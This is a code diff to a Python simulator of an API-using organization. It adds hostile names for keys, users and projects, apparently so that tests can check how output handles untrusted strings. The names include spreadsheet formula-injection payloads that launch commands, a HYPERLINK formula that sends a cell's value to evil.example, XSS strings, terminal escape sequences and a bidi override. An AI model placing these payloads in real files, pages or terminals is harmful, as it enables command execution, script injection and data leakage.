@@ -163,6 +163,39 @@ _PEOPLE = (
     "Sofia Rossi",
     "Kwame Mensah",
 )
+HOSTILE_KEY_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
+    "default",
+    "default",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tleading-tab",
+    "\rcarriage-return",
+    "[link=http://evil.example]billing[/link]",
+    "\x1b[31mred\x1b[0m\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "<script>alert('key')</script>",
+    "default",
+)
+"""Key names an outside check uses: live formulas, Rich markup, terminal escapes, HTML, and
+"default" thrice (OpenAI keys often share a name)."""
+HOSTILE_USER_NAMES = (
+    "=1+1",
+    "[bold red]Mallory[/bold red]",
+    "Eve\x1b[2J\x1b[H",
+    "<img src=x onerror=alert('user')>",
+    "Sam Lee",
+    "Sam Lee",
+    "@Trudy",
+    "Bidi \u202eevil\u202c name",
+)
+HOSTILE_PROJECT_NAMES = (
+    "=cmd|' /C calc'!A0",
+    "default",
+    "default",
+    "[italic]Project[/italic]",
+    "Legacy Chat",
+)
 _PROJECTS = ("Support Bot", "Research", "Data Pipeline", "Internal Tools", "Legacy Chat")
 _RATES = {
     "completions": 7.0,
@@ -205,6 +238,9 @@ class Organization:
     revision: int = 0
     size: Size | None = None
     """A benchmark organization of this size instead of the small hand-written one."""
+    hostile_names: bool = False
+    """Names as a hostile member of the organization would choose them (see
+    :data:`HOSTILE_KEY_NAMES`): formulas, markup, escape sequences, duplicates."""
     users: list[SimUser] = field(init=False)
     projects: dict[str, SimProject] = field(init=False)
     keys: list[SimKey] = field(init=False)
@@ -224,6 +260,8 @@ class Organization:
         self._build_people(rng)
         self._build_projects(rng, anchor)
         self._build_keys(rng, anchor)
+        if self.hostile_names:
+            self._rename_hostile()
 
     @property
     def now(self) -> int:
@@ -377,6 +415,29 @@ class Organization:
                     weight=weight,
                 )
             )
+
+    def _rename_hostile(self) -> None:
+        """Every key, user and project renamed as strangers may name them; ids, emails and
+        traffic stay as they were."""
+        import dataclasses
+
+        self.users = [
+            dataclasses.replace(u, name=HOSTILE_USER_NAMES[i % len(HOSTILE_USER_NAMES)])
+            for i, u in enumerate(self.users)
+        ]
+        by_id = {u.id: u.name for u in self.users}
+        self.keys = [
+            dataclasses.replace(
+                k,
+                name=HOSTILE_KEY_NAMES[i % len(HOSTILE_KEY_NAMES)],
+                owner_name=by_id.get(k.owner_id, HOSTILE_KEY_NAMES[i % len(HOSTILE_KEY_NAMES)]),
+            )
+            for i, k in enumerate(self.keys)
+        ]
+        self.projects = {
+            pid: dataclasses.replace(p, name=HOSTILE_PROJECT_NAMES[i % len(HOSTILE_PROJECT_NAMES)])
+            for i, (pid, p) in enumerate(self.projects.items())
+        }
 
     # -- traffic ----------------------------------------------------------------------------
 
